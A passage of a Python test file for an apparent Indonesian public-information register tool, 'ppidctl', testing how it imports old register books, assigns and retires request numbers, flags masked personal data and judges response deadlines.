    r = run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-01-20", "--tanpa-surat")
    assert "004/PPID/5271/I/2026" in r.stdout

    def book_note() -> list[str]:
        out = tmp_path / "buku.xlsx"
        run.ok("ekspor", "--register", "permohonan", "-o", str(out))
        cells = [c for row in load_workbook(out).active.iter_rows(values_only=True) for c in row]
        return [c for c in cells if isinstance(c, str) and c.startswith("Nomor yang pernah")]

    assert book_note() == ["Nomor yang pernah diberikan tetapi tidak ada di register ini "
                           "(dibatalkan atau dihapus: tidak dipakai lagi): 003/PPID/5271/I/2026 "
                           "(baris buku lama yang ditolak impor; diimpor setelah diperbaiki)"]  # fmt: skip
    lain = write_csv(tmp_path / "lain.csv", [HEAD, ["002/PPID/5271/I/2026", "06/01/2026", "Eka",
                                                  "SK"]])  # fmt: skip
    run.ok("impor", str(lain), "--register", "permohonan", "--lewati-baris-bermasalah")
    assert "002/PPID" not in " ".join(book_note())  # (refused, but its number is Budi's)
    tanpa_nomor = write_csv(tmp_path / "tanpa.csv", [HEAD, ["", "07/01/2026", "Dedi", "KTA"]])
    run.ok("impor", str(tanpa_nomor), "--register", "permohonan")
    fix = write_csv(tmp_path / "fix.csv", [HEAD, ["003/PPID/5271/I/2026", "07/01/2026", "Citra",
                                                  "DPT"]])  # fmt: skip
    run.ok("impor", str(fix), "--register", "permohonan")
    got = {row["nama_pemohon"]: row["nomor_registrasi"] for row in register_rows(ws)}
    assert got["Citra"] == "003/PPID/5271/I/2026" and got["Dedi"] == "005/PPID/5271/I/2026"
    assert book_note() == []
    run.ok("periksa")
    # used once: deleted after that (a duplicate), the number is retired for good
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-01-21", "--tanpa-surat")
    path = ws.register_path("permohonan")
    lines = path.read_bytes().split(b"\r\n")
    path.write_bytes(b"\r\n".join(x for x in lines if b"003/PPID/5271/I/2026" not in x))
    run.ok("periksa", "--terima-perubahan", "--catatan", "003 ganda")
    r = run.refused("impor", str(fix), "--register", "permohonan", message="1 dari 1 baris")
    assert "003/PPID/5271/I/2026 pernah diberikan lalu barisnya dihapus" in r.stderr
    assert book_note() == ["Nomor yang pernah diberikan tetapi tidak ada di register ini "
                           "(dibatalkan atau dihapus: tidak dipakai lagi): 003/PPID/5271/I/2026"]  # fmt: skip


def test_nomor_yang_ditolak_impor_versi_lama_tidak_diberikan_catat(run, ws, tmp_path):
    """An import by a ppidctl older than held numbers journalled no ``nomor_ditahan``: after
    the upgrade ``catat`` gave the refused row's number (which the old book gave to someone) to
    a new requester, and the corrected row's import was refused. Its rejects file names it."""
    import json
    import re

    src = write_csv(tmp_path / "lama.csv", [
        HEAD,
        ["001/PPID/5271/I/2026", "05/01/2026", "Ani", "DPT"],
        ["002/PPID/5271/I/2026", "31/02/2026", "Citra", "DPT"],  # (no such day)
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    lines = ws.journal_path.read_text(encoding="utf-8").splitlines()
    last = json.loads(lines[-1])
    assert last["nomor_ditahan"] == {"permohonan": ["002/PPID/5271/I/2026"]}
    # the journal as the older import wrote it: no held number, none retired
    old = re.sub(r'"nomor_ditahan":\{[^}]*\},', "", lines[-1])
    old = old.replace('"nomor_dihapus":{"permohonan":["002/PPID/5271/I/2026"]}',
                      '"nomor_dihapus":{"permohonan":[]}')  # fmt: skip
    assert old != lines[-1] and "002/PPID" not in old
    ws.journal_path.write_text("\n".join([*lines[:-1], old]) + "\n", encoding="utf-8")
    r = run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-01-20", "--tanpa-surat")
    assert "003/PPID/5271/I/2026" in r.stdout
    tanpa = write_csv(tmp_path / "tanpa.csv", [HEAD, ["", "06/01/2026", "Dedi", "KTA"]])
    run.ok("impor", str(tanpa), "--register", "permohonan")  # (nor to a row without a number)
    fix = write_csv(tmp_path / "fix.csv", [HEAD, ["002/PPID/5271/I/2026", "07/01/2026", "Citra",
                                                  "DPT"]])  # fmt: skip
    run.ok("impor", str(fix), "--register", "permohonan")
    got = {row["nama_pemohon"]: row["nomor_registrasi"] for row in register_rows(ws)}
    assert got["Citra"] == "002/PPID/5271/I/2026" and got["Dedi"] == "004/PPID/5271/I/2026"


def test_nomor_di_berkas_tolak_lama_dibaca_seperti_impor_membacanya(run, ws, tmp_path):
    """What an older import left only in its rejects file is read as the import reads a book:
    a bare "2" completed with its row's date (a book numbered 1, 2, 3 kept "2" there), any
    pattern (not only one with "/"), and an objection register's request numbers ("Nomor
    Permohonan") are not the request register's."""
    impor = ws.root / "impor"
    impor.mkdir(exist_ok=True)
    write_csv(impor / "tolak-buku-20261120-090000.csv", [
        [*HEAD, "lembar_sumber", "baris_sumber", "alasan_tolak"],
        ["2", "06/01/2026", "Citra", "DPT", "", "3", "kolom Nama: …"],
    ])  # fmt: skip
    write_csv(impor / "tolak-keberatan-20261120-090000.csv", [
        ["No. Registrasi", "Tanggal", "Nomor Permohonan", "Alasan Keberatan", "Nama",
         "alasan_tolak"],
        ["001/KEB/PPID/5271/I/2026", "07/01/2026", "003/PPID/5271/I/2026", "a", "Dedi", "…"],
    ])  # fmt: skip
    run.ok("impor", str(write_csv(tmp_path / "a.csv", [HEAD, ["1", "05/01/2026", "Ani", "DPT"]])),
           "--register", "permohonan")  # fmt: skip
    r = run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-01-20", "--tanpa-surat")
    assert "003/PPID/5271/I/2026" in r.stdout  # (002 is Citra's; 003 only named by an objection)
    toml = ws.root / "ppidctl.toml"
    text = toml.read_text("utf-8").replace(
        'permohonan = "{urut:03d}/PPID/{kode}/{bulan_romawi}/{tahun}"',
        'permohonan = "{urut:03d}.PPID.{kode}.{tahun}"',
    )
    toml.write_text(text, "utf-8")
    write_csv(impor / "tolak-lain-20261120-090000.csv", [
        [*HEAD, "alasan_tolak"], ["004.PPID.5271.2026", "31/02/2026", "Eko", "DPT", "…"],
    ])  # fmt: skip
    r = run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-01-21", "--tanpa-surat")
    assert "005.PPID.5271.2026" in r.stdout


def test_nomor_yang_tidak_ditahan(run, ws, tmp_path):
    """Held is only a number no imported row carries and that states its year: a duplicate's
    number is the first row's (deleted later, it is retired like any other, never given to
    someone else); a bare "3" with an unreadable date would hold 3 in every year, and its
    corrected row imports as 003/…/2026 — nothing to hold."""
    import json

    src = write_csv(tmp_path / "lama.csv", [
        HEAD,
        ["001/PPID/5271/I/2026", "05/01/2026", "Ani", "DPT"],
        ["001/PPID/5271/I/2026", "05/01/2026", "Ani", "DPT"],  # (typed twice)
        ["3", "31/02/2026", "Citra", "DPT"],  # (no such day, no year in the number)
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    last = json.loads(ws.journal_path.read_text(encoding="utf-8").splitlines()[-1])
    assert "nomor_ditahan" not in last and not last["nomor_dihapus"]["permohonan"]
    tanpa = write_csv(tmp_path / "tanpa.csv", [HEAD, ["", "07/01/2025", "Dedi", "KTA"],
                                               ["", "08/01/2025", "Eka", "KTA"],
                                               ["", "09/01/2025", "Fajar", "KTA"]])  # fmt: skip
    run.ok("impor", str(tanpa), "--register", "permohonan")
    assert [r["nomor_registrasi"] for r in register_rows(ws)][-1] == "003/PPID/5271/I/2025"
    # the first row deleted: its number is retired, not free for another requester
    path = ws.register_path("permohonan")
    lines = path.read_bytes().split(b"\r\n")
    path.write_bytes(b"\r\n".join(x for x in lines if b"001/PPID/5271/I/2026" not in x))
    run.ok("periksa", "--terima-perubahan", "--catatan", "001 salah catat")
    lain = write_csv(tmp_path / "lain.csv", [HEAD, ["001/PPID/5271/I/2026", "30/01/2026", "Orang",
                                                  "Lain"]])  # fmt: skip
    r = run.refused("impor", str(lain), "--register", "permohonan", message="1 dari 1 baris")
    assert "001/PPID/5271/I/2026 pernah diberikan lalu barisnya dihapus" in r.stderr


def test_terlambat_tidak_dari_perkara_terbuka_bukan_catatan(run, ws, tmp_path):
    """An export lists an open case as 'terlambat: tidak' (not late yet), the register keeps it
    empty until it is answered: that is no difference worth a note; 'ya' still is."""
    src = write_csv(tmp_path / "t.csv", [
        [*HEAD, "Terlambat"],
        ["001/PPID/5271/XI/2026", "16/11/2026", "Ani", "DPT", "tidak"],
        ["002/PPID/5271/XI/2026", "16/11/2026", "Budi", "KTA", "ya"],
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan")
    notes = [row["catatan"] for row in register_rows(ws)]
    assert notes == ["", "Terlambat di berkas asal: ya"]


def test_samaran_di_nomor_paspor_dan_di_sel_kontak_gabungan(run, ws, tmp_path):
    """A masked passport number (read as text, not as a NIK) and a masked phone beside a clear
    e-mail in one contact cell are masks too."""
    src = write_csv(tmp_path / "s.csv", [
        [*HEAD, "jenis_identitas", "nik", "Nomor Kontak"],
        ["001/PPID/5271/XI/2026", "02/11/2026", "Bob", "DPT", "paspor", "*******47", "b@x.id"],
        ["002/PPID/5271/XI/2026", "02/11/2026", "Ani", "DPT", "", "",
         "0812******90 / ani@example.com"],
    ])  # fmt: skip
    r = run.refused("impor", str(src), "--register", "permohonan", message="2 dari 2 baris")
    lines = problem_lines(r.stderr)
    assert lines[0].startswith("baris 2, kolom nik: data pribadi disamarkan ('*******47')")
    assert lines[1].startswith("baris 3, kolom Nomor Kontak: data pribadi disamarkan")


def test_sengketa_sebelum_tenggat_tanggapan_tidak_terlambat_dan_periksa_setuju(run, ws, tmp_path):
    """An old book's objection taken to the Komisi Informasi before its response deadline,
    never answered: the import records it not late, and periksa agrees (it judged every such
    objection late whatever the dates)."""
    src = write_csv(tmp_path / "k.csv", [
        ["Tanggal Diterima", "Nama Pemohon", "Alasan Keberatan", "Tanggapan Pemohon",
         "Tanggal Tanggapan Pemohon"],
        ["02/11/2026", "Ani", "c", "sengketa", "06/11/2026"],
        ["02/03/2026", "Budi", "c", "sengketa", "20/05/2026"],
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "keberatan")
    assert [r["terlambat"] for r in register_rows(ws, "keberatan")] == ["tidak", "ya"]
    run.ok("periksa")


def test_sengketa_tanpa_tanggal_dinilai_sekali_oleh_impor(run, ws, tmp_path, today):
    """An old book's unanswered objection taken to the KI without the dispute's date is judged
    by the import on its day; periksa does not judge it again as the days go by."""
    src = write_csv(tmp_path / "k.csv", [
        ["Tanggal Diterima", "Nama Pemohon", "Alasan Keberatan", "Tanggapan Pemohon"],
        ["16/11/2026", "Ani", "c", "sengketa"],
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "keberatan")
    assert register_rows(ws, "keberatan")[0]["terlambat"] == "tidak"
    today("2027-03-01")  # (long after its response deadline)
    run.ok("periksa")


def test_nomor_paspor_bertanda_bintang_adalah_samaran(run, ws, tmp_path):
    src = write_csv(tmp_path / "s.csv", [
        [*HEAD, "jenis_identitas", "nik", "telepon"],
        ["001/PPID/5271/XI/2026", "02/11/2026", "Bob", "DPT", "paspor", "X*******", "081234567890"],
    ])  # fmt: skip
    r = run.refused("impor", str(src), "--register", "permohonan", message="1 dari 1 baris")
    assert "kolom nik: data pribadi disamarkan ('X*******')" in r.stderr


def test_book_of_a_month_names_no_held_number_of_another_year(run, ws, tmp_path):
    """A held 2024 number stays out of November 2026's register book also after the office
    changed its number pattern (the old shape stated no month/year the new pattern reads)."""
    from openpyxl import load_workbook

    src = write_csv(tmp_path / "lama.csv", [
        HEAD, ["001/PPID/5271/I/2024", "05/01/2024", "Ani", "DPT"],
        ["002/PPID/5271/I/2024", "31/02/2024", "Budi", "DPT"],  # (refused: its number held)
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    toml = ws.root / "ppidctl.toml"
    toml.write_text(toml.read_text(encoding="utf-8").replace(
        'permohonan = "{urut:03d}/PPID/{kode}/{bulan_romawi}/{tahun}"',
        'permohonan = "PPID.{urut:04d}/{kode}/{tahun}"'), encoding="utf-8")  # fmt: skip
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-11-16", "--tanpa-surat")

    def note(*period: str) -> list[str]:
        out = tmp_path / "buku.xlsx"
        run.ok("ekspor", "--register", "permohonan", *period, "-o", str(out))
        cells = [c for row in load_workbook(out).active.iter_rows(values_only=True) for c in row]
        return [c for c in cells if isinstance(c, str) and c.startswith("Nomor yang pernah")]

    assert note("--bulan", "2026-11") == []
    assert note("--bulan", "2024-03") == []  # (its Roman month is read: January, not March)
    assert "002/PPID/5271/I/2024" in " ".join(note("--bulan", "2024-01"))


def test_a_long_source_name_gives_a_short_rejects_name(run, ws, tmp_path):
    """The rejects file named the whole source ("tolak-<name>-<stamp>.csv", staged with 45
    more characters): an office's long descriptive file name went past the file-name limit
    (Windows' 260-character path much sooner) and the import failed with no word about the
    name. The name is cut to 60 characters; a re-run still finds its earlier rejects file."""
    import shutil

    src = tmp_path / ("Register Permohonan Informasi Publik PPID KPU Kota Mataram " * 4).strip()
    src = src.with_name(src.name[:215] + ".xlsx")
    shutil.copy(XLSX, src)
    for _ in range(3):  # (the second refuses one row fewer: the duplicate is now "sudah ada")
        run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    made = sorted((ws.root / "impor").glob("tolak-*.csv"))
    assert len(made) == 2
    for path in made:
        assert (
            path.name.startswith(
                "tolak-Register Permohonan Informasi Publik PPID KPU Kota Mataram R-"
            )
            and len(path.name) <= 6 + 60 + 24
        )


def test_impor_ulang_menyebut_keputusan_baru_baris_tanpa_nomor(run, ws, tmp_path):
    """A book kept on for a month after migration: a decision typed later into a row that had
    no number of its own (numbered by the first import) was counted "sudah ada" without a word,
    the case left open and overdue (review migrasi M2); told now, as for a numbered row."""
    head = [*HEAD, "Keputusan", "Tanggal Pemberitahuan Tertulis"]
    rows = [head, ["", "2/3/2026", "Ani", "DPT", "", ""], ["", "3/3/2026", "Budi", "TPS", "", ""]]
    run.ok("impor", str(write_csv(tmp_path / "a.csv", rows)), "--register", "permohonan")
    rows[1][4:] = ["Diberikan", "6/3/2026"]
    rows[2][2] = "BUDI "  # (the key's texts compare as the key does: no difference)
    r = run.refused("impor", str(write_csv(tmp_path / "b.csv", rows)), "--register",
                    "permohonan", message="1 dari 2 baris")  # fmt: skip
    assert problem_lines(r.stderr) == [
        "baris 2, kolom No. Registrasi: sama dengan 001/PPID/5271/III/2026 di register "
        "permohonan (tanggal, nama dan informasi sama), tetapi kolom keputusan berisi "
        "'diberikan' di berkas dan '' di register; kolom tanggal_pemberitahuan berisi "
        "'2026-03-06' di berkas dan '' di register; impor tidak mengubah data yang sudah ada: "
        "catat langkahnya dengan perintahnya, atau sunting register lalu ppidctl periksa "
        "--terima-perubahan",
    ]
    # what the requester gave, typed again in the book: no new fact (review sesi27 M2)
    head = [*HEAD, "Pekerjaan", "Alamat", "Tujuan"]
    run.ok("permohonan", "catat", *REQUEST, "--nama", "Cici", "--informasi", "SK PPK",
           "--pekerjaan", "Guru", "--alamat", "Jl. Pejanggik No. 2", "--tanggal", "2026-03-04",
           "--tanpa-surat")  # fmt: skip
    desk = {x["nama_pemohon"]: x for x in register_rows(ws)}["Cici"]
    book = [head, ["", "4/3/2026", "cici", "SK PPK", "guru", "Jl. Pejanggik 2", "penelitian"]]
    r = run.ok("impor", str(write_csv(tmp_path / "c.csv", book)), "--register", "permohonan")
    assert "Sudah ada    : 1" in r.stdout and desk["tujuan_penggunaan"] != "penelitian"


def test_buku_asal_diimpor_ulang_setelah_berkas_tolak_memberi_nomor_baru(run, ws, tmp_path):
    """A number used twice in the old book: the second row, its number blanked in the rejects
    file, came in under a new number — and the original book could never be imported again
    ("sudah ada … untuk data lain", review migrasi M3). That row is already there: counted so,
    and the number it has is said."""
    src = write_csv(tmp_path / "buku.csv", [
        HEAD,
        ["003/PPID/5271/I/2026", "5/1/2026", "Cahyo", "SK PPK"],
        ["003/PPID/5271/I/2026", "6/1/2026", "Hesti", "DPT"],
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "permohonan", "--lewati-baris-bermasalah")
    (tolak,) = (ws.root / "impor").glob("tolak-*.csv")
    rows = rows_of(tolak)
    rows[0]["No. Registrasi"] = ""
    fixed = write_csv(tmp_path / "tolak.csv", [list(rows[0]), list(rows[0].values())])
    run.ok("impor", str(fixed), "--register", "permohonan")
    assert {r["nama_pemohon"]: r["nomor_registrasi"] for r in register_rows(ws)} == {
        "Cahyo": "003/PPID/5271/I/2026",
        "Hesti": "004/PPID/5271/I/2026",
    }
    r = run.ok("impor", str(src), "--register", "permohonan")
    assert "Sudah ada    : 2" in r.stdout
    assert (
        "baris 3: sudah diimpor sebagai 004/PPID/5271/I/2026 (tanggal, nama dan informasi "
        "sama); nomor 003/PPID/5271/I/2026 di berkas milik data lain (2026-01-05, Cahyo, SK PPK)"
    ) in r.stderr
    # a decision typed into that row later is told, as for any row (review sesi27 M3)
    later = write_csv(tmp_path / "buku2.csv", [
        [*HEAD, "Keputusan", "Tanggal Pemberitahuan"],
        ["003/PPID/5271/I/2026", "5/1/2026", "Cahyo", "SK PPK", "", ""],
        ["003/PPID/5271/I/2026", "6/1/2026", "Hesti", "DPT", "Ditolak", "9/1/2026"],
    ])  # fmt: skip
    r = run.refused("impor", str(later), "--register", "permohonan", message="1 dari 2 baris")
    assert problem_lines(r.stderr)[0].startswith(
        "baris 3, kolom No. Registrasi: sama dengan 004/PPID/5271/I/2026 di register permohonan "
        "(tanggal, nama dan informasi sama; nomor 003/PPID/5271/I/2026 di berkas milik data "
        "lain), tetapi kolom keputusan berisi 'ditolak' di berkas dan '' di register"
    )


def test_banyak_masalah_diringkas_menurut_jenisnya(run, ws, tmp_path):
    """2,000 problems of five kinds were 2,000 lines with no summary (review migrasi L4): a
    long list ends with one line per kind, most first, with its first problem; a short or
    varied list has none."""
    rows = [HEAD] + [
        ["", f"{d}/3/2026" if i % 3 else f"{d} Maart 2026", f"Pemohon {i}", "DPT"]
        for i, d in enumerate(range(1, 28), 1)
    ] + [["", "31/02/2026", f"Pemohon {i}", "DPT"] for i in range(30, 42)]  # fmt: skip
    src = write_csv(tmp_path / "a.csv", rows)
    ringkas = [
        "Ringkasan masalah menurut jenisnya:",
        "  12× seperti baris 29, kolom Tanggal: tanggal '31/02/2026' tidak ada",
        "  9× seperti baris 4, kolom Tanggal: tanggal '3 Maart 2026': nama bulan 'maart' tidak "
        "dikenal",
    ]
    coba = run.refused("impor", str(src), "--register", "permohonan", "--coba",
                       message="uji coba: impor sungguhan akan dibatalkan")  # fmt: skip
    assert coba.stdout.split("Ringkasan", 1)[1].splitlines()[:3] == [
        " masalah menurut jenisnya:",
        *ringkas[1:],
    ]
    r = run.refused("impor", str(src), "--register", "permohonan", message="21 dari 39 baris")
    assert r.stderr.rstrip().splitlines()[-3:] == ringkas
    short = write_csv(tmp_path / "b.csv", rows[:10])
    r = run.refused("impor", str(short), "--register", "permohonan", message="3 dari 9 baris")
    assert "Ringkasan" not in r.stderr


def test_sel_di_luar_judul_tabel_disebut_dan_disimpan(run, ws, tmp_path):
    """A notes column with no title right of the table was kept in catatan but never named
    in the mapping (review migrasi L2): the mapping says which columns and where."""
    rows = [[*HEAD, None], ["", "2/3/2026", "Ani", "DPT", None],
            ["", "3/3/2026", "Budi", "TPS", "diambil langsung"]]  # fmt: skip
    r = run.ok("impor", str(write_xlsx(tmp_path / "a.xlsx", {"S": rows})), "--register",
               "permohonan")  # fmt: skip
    assert (
        "Catatan: kolom E di luar judul tabel (tanpa judul, mis. baris 3): isinya disimpan di "
        "catatan sebagai 'Kolom E: …'"
    ) in r.stderr
    got = {x["nama_pemohon"]: x["catatan"] for x in register_rows(ws)}
    assert got == {"Ani": "", "Budi": "Kolom E: diambil langsung"}


def test_tanggal_yang_jauh_dari_urutannya_diperingatkan(run, ws, tmp_path):
    """A receipt date far from both rows around it, which are close to each other, is a
    warning (review migrasi L1: 16/10 among 15/01 and 17/01 was numbered in October with no
    word) — the first row too; a book kept in another order (by name) gets none (sesi27 L2)."""
    days = ["5/8/2025", "15/1/2025", "16/1/2025", "17/1/2025", "16/10/2025", "20/1/2025"]
    rows = [HEAD, *(["", d, f"Pemohon {i}", "DPT"] for i, d in enumerate(days))]
    r = run.ok("impor", str(write_csv(tmp_path / "a.csv", rows)), "--register", "permohonan",
               "--coba")  # fmt: skip
    warned = [line for line in r.stderr.splitlines() if "jauh dari" in line]
    assert warned == [
        "Peringatan: baris 2, kolom Tanggal: tanggal 2025-08-05 jauh dari baris di sekitarnya "
        "(2025-01-15, 2025-01-16) — salah ketik bulan atau tahun?",
        "Peringatan: baris 6, kolom Tanggal: tanggal 2025-10-16 jauh dari baris di sekitarnya "
        "(2025-01-17, 2025-01-20) — salah ketik bulan atau tahun?",
    ]
    by_name = [HEAD, *(["", f"{d}/{m}/2025", f"Pemohon {n}", "DPT"]
                       for n, d, m in [("A", 5, 3), ("B", 2, 1), ("C", 9, 11), ("D", 3, 1),
                                       ("E", 20, 7), ("F", 4, 1), ("G", 1, 12)])]  # fmt: skip
    r = run.ok("impor", str(write_csv(tmp_path / "b.csv", by_name)), "--register", "permohonan",
               "--coba")  # fmt: skip
    assert "jauh dari" not in r.stderr


def test_ringkasan_satu_jenis_lintas_bulan(run, ws, tmp_path):
    """One fault told for dates across a year is one kind: month names were part of the kind,
    so an English-Excel book's 86 problems got no summary (review sesi27 L3)."""
    from datetime import datetime

    cells = [datetime(2026, m, d) for m in range(1, 13) for d in (2, 5) if d != m]
    rows = [HEAD, ["", "13/01/2026", "Teks", "Info"],
            *(["", c, f"Pemohon {i}", "Info"] for i, c in enumerate(cells))]  # fmt: skip
    src = write_xlsx(tmp_path / "en.xlsx", {"Register": rows})
    r = run.refused("impor", str(src), "--register", "permohonan", message="22 dari 23 baris")
    assert (
        "  22× seperti baris 3, kolom Tanggal: tanggal Excel 2 Januari 2026 mungkin tertukar: "
        "kolom ini juga memuat teks hari-dulu yang tidak dijadikan tanggal (baris 2: "
        "'13/01/2026'), tanda Excel berbahasa Inggris yang membaca '01/02/2026' bulan-dulu — 2 "
        "Januari 2026 atau 1 Februari 2026? Lihat dokumen permohonannya, lalu tulis tanggalnya "
        "dengan nama bulan"
    ) in r.stderr.split("Ringkasan masalah menurut jenisnya:")[1].splitlines()


# ==============================================================================================
# ppidctl's own outputs imported again (review bolakbalik)


def _warned(runner, path: Path, register: str) -> list[str]:
    """The warnings ``impor --coba`` gives for ``path``."""
    shown = runner.ok("impor", str(path), "--register", register, "--coba", "--format", "json")
    return json.loads(shown.stdout)["peringatan"]


def test_ppidctl_s_own_exports_import_again_without_invented_facts(run, ws, tmp_path, today):
    """Moving cases between two PCs through ppidctl's own files: the register book's 'Tanpa
    biaya' (an empty fee) was read as 0 and refused every given request as a later step (M1);
    an open overdue case's live 'terlambat ya' in the CSV export became a note, doubled each
    generation (L1); the JSON export was refused with advice to save it as a workbook (L2)."""
    from ppidctl.workspace import init

    from conftest import Runner

    today("2026-04-20")
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-03-02", "--tanpa-surat")
    run.ok("permohonan", "putuskan", "1", "--keputusan", "diberikan", "--tanggal", "2026-03-04",
           "--tanpa-surat")  # fmt: skip
    run.ok(
        "permohonan",
        "catat",
        *REQUEST,
        "--nama",
        "Siti",
        "--tanggal",
        "2026-03-16",
        "--tanpa-surat",
    )  # fmt: skip (open, due 30 Mar: overdue on 20 Apr)
    book, flat = tmp_path / "buku.xlsx", tmp_path / "register.csv"
    run.ok("ekspor", "--register", "permohonan", "--tanpa-sensor", "-o", str(book))
    run.ok("ekspor", "--register", "permohonan", "--tanpa-sensor", "-o", str(flat))
    again = json.loads(
        run.ok("impor", str(book), "--register", "permohonan", "--coba", "--format", "json").stdout
    )
    assert (again["jumlah"]["sudah_ada"], again["jumlah"]["ditolak"]) == (2, 0)
    other = Runner(init(tmp_path / "b", "Komisi Pemilihan Umum Kota Mataram", "5271").root)
    for generation in (1, 2):  # (the second imports the first's own export)
        other.ok("impor", str(flat), "--register", "permohonan")
        rows = rows_of(other.root / "registers" / "permohonan.csv")
        assert len(rows) == 2 and all("Terlambat di berkas asal" not in r["catatan"] for r in rows)
        other.ok("ekspor", "--register", "permohonan", "--tanpa-sensor", "-o", str(flat))
        other = Runner(init(tmp_path / f"c{generation}", "KPU Kota Mataram", "5271").root)
    exported = tmp_path / "register.json"
    run.ok("ekspor", "--register", "permohonan", "--tanpa-sensor", "--format", "json", "-o",
           str(exported))  # fmt: skip
    other.refused("impor", str(exported), "--register", "permohonan",
                  message="tidak didukung — ekspor ulang dengan ppidctl ekspor --register NAMA "
                  "--format csv --tanpa-sensor")  # fmt: skip


def test_another_office_s_numbers_are_told_as_such(run, ws, tmp_path):
    # a city office's book imported into another's workspace: refused (one numbering per
    # register), with a way out that refused this office's own book instead (review bolakbalik L5)
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-02-02", "--tanpa-surat")
    lobar = write_csv(tmp_path / "lobar.csv", [
        HEAD, ["001/PPID/5201/II/2026", "03/02/2026", "Ani", "DPT Lombok Barat"],
    ])  # fmt: skip
    shown = run("impor", str(lobar), "--register", "permohonan", "--coba")
    assert "nomor itu bukan berkode kantor ini, 5271: satu workspace untuk satu kantor" in (
        " ".join((shown.stdout + shown.stderr).split())
    )


def test_the_register_book_imported_says_what_its_keterangan_holds_only_as_a_note(
    run, ws, tmp_path
):
    # the book's Keterangan names the extension; imported, it is a note and the deadline is
    # counted without it: the import said nothing (review bolakbalik M2)
    from ppidctl.workspace import init

    from conftest import Runner

    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-03-02", "--tanpa-surat")
    run.ok("permohonan", "perpanjang", "1", "--alasan", "Arsip di gudang", "--tanggal",
           "2026-03-13", "--tanpa-surat")  # fmt: skip
    book = tmp_path / "buku.xlsx"
    run.ok("ekspor", "--register", "permohonan", "--tanpa-sensor", "-o", str(book))
    other = Runner(init(tmp_path / "b", "Komisi Pemilihan Umum Kota Mataram", "5271").root)
    said = _warned(other, book, "permohonan")
    assert any(w.startswith("1 baris buku register ppidctl (mis. baris 7)") for w in said), said
    flat = tmp_path / "register.csv"  # (the CSV export carries the extension itself: no word)
    run.ok("ekspor", "--register", "permohonan", "--tanpa-sensor", "-o", str(flat))
    said = _warned(other, flat, "permohonan")
    assert not any("buku register ppidctl" in w for w in said), said


def test_letter_numbers_go_on_after_an_imported_objection_register(run, ws, tmp_path):
    # the reply letters an imported book numbered are not in surat.csv: the migrated office's
    # first new letter took sequence 1 of the year again (review bolakbalik L3)
    src = write_csv(tmp_path / "k.csv", [
        ["No. Registrasi Keberatan", "Tanggal Diterima", "Nama Pemohon", "Alasan Keberatan",
         "Keputusan Atasan PPID", "Tanggal Tanggapan", "Nomor Surat Tanggapan"],
        ["", "2/2/2026", "Bayu", "a", "Ditolak", "26/2/2026", "5/PL.02.2-SD/5271/II/2026"],
    ])  # fmt: skip
    run.ok("impor", str(src), "--register", "keberatan")
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-03-02", "--tanpa-surat")
    decide = ["permohonan", "putuskan", "1", "--keputusan", "diberikan", "--tanggal", "2026-03-04"]
    run.refused(*decide, "--nomor-surat", "5/pl.02.2-sd/5271/II/2026",
                message="nomor surat 5/pl.02.2-sd/5271/II/2026 sudah dipakai: "
                "5/PL.02.2-SD/5271/II/2026 untuk surat tanggapan keberatan "
                "001/KEB/PPID/5271/II/2026 (register keberatan)")  # fmt: skip
    run.ok(*decide)
    (notice,) = [r for r in rows_of(ws.register_path("surat")) if r["jenis"] == "pemberitahuan"]
    assert notice["nomor_surat"] == "6/PL.02.2-SD/5271/III/2026"
    run.refused(  # (its number is the register's: review sesi31c M2)
        "surat", "buat", "tanggapan-keberatan", "001/KEB/PPID/5271/II/2026", "--nomor-surat",
        "44/PL.02.2-SD/5271/II/2026",
        message="surat tanggapan-keberatan 001/KEB/PPID/5271/II/2026 sudah bernomor "
        "5/PL.02.2-SD/5271/II/2026",
    )  # fmt: skip
    # the old book's reply made again: a rebuild, not the letter sent (review agenda M2)
    said = run.ok("surat", "buat", "tanggapan-keberatan", "001/KEB/PPID/5271/II/2026").stderr
    assert "aslinya dibuat di luar ppidctl (register lama yang diimpor)" in " ".join(said.split())
    (reply,) = [
        r for r in rows_of(ws.register_path("surat")) if r["jenis"] == "tanggapan-keberatan"
    ]
    assert reply["nomor_surat"] == "5/PL.02.2-SD/5271/II/2026"
    assert reply["keterangan"].startswith("dibuat ulang dari register, ")
    # an old book's reply number another letter carries is told (review sesi31c L6)
    path = ws.register_path("keberatan")
    path.write_text(path.read_text(encoding="utf-8").replace(
        "5/PL.02.2-SD/5271/II/2026", "06/PL.02.2-SD/5271/III/2026"), encoding="utf-8")  # fmt: skip
    run.ok("periksa", "--terima-perubahan", "--catatan", "nomor dari buku lama dikoreksi")
    told = run("periksa").stdout
    assert (
        "001/KEB/PPID/5271/II/2026: nomor surat tanggapan 06/PL.02.2-SD/5271/III/2026 sudah "
        "dipakai: 6/PL.02.2-SD/5271/III/2026 (pemberitahuan 001/PPID/5271/III/2026)"
    ) in told


def test_deadlines_recounted_otherwise_than_the_file_are_told(run, ws, tmp_path):
    # the old workspace's office day off is not in its registers: the import recounted four
    # deadlines a day earlier and said nothing (review bolakbalik L4)
    from ppidctl.workspace import init

    from conftest import Runner

    run.ok("kalender", "tambah", "2026-03-10", "--keterangan", "Libur kantor")
    run.ok("permohonan", "catat", *REQUEST, "--tanggal", "2026-03-02", "--tanpa-surat")
    flat = tmp_path / "register.csv"
    run.ok("ekspor", "--register", "permohonan", "--tanpa-sensor", "-o", str(flat))
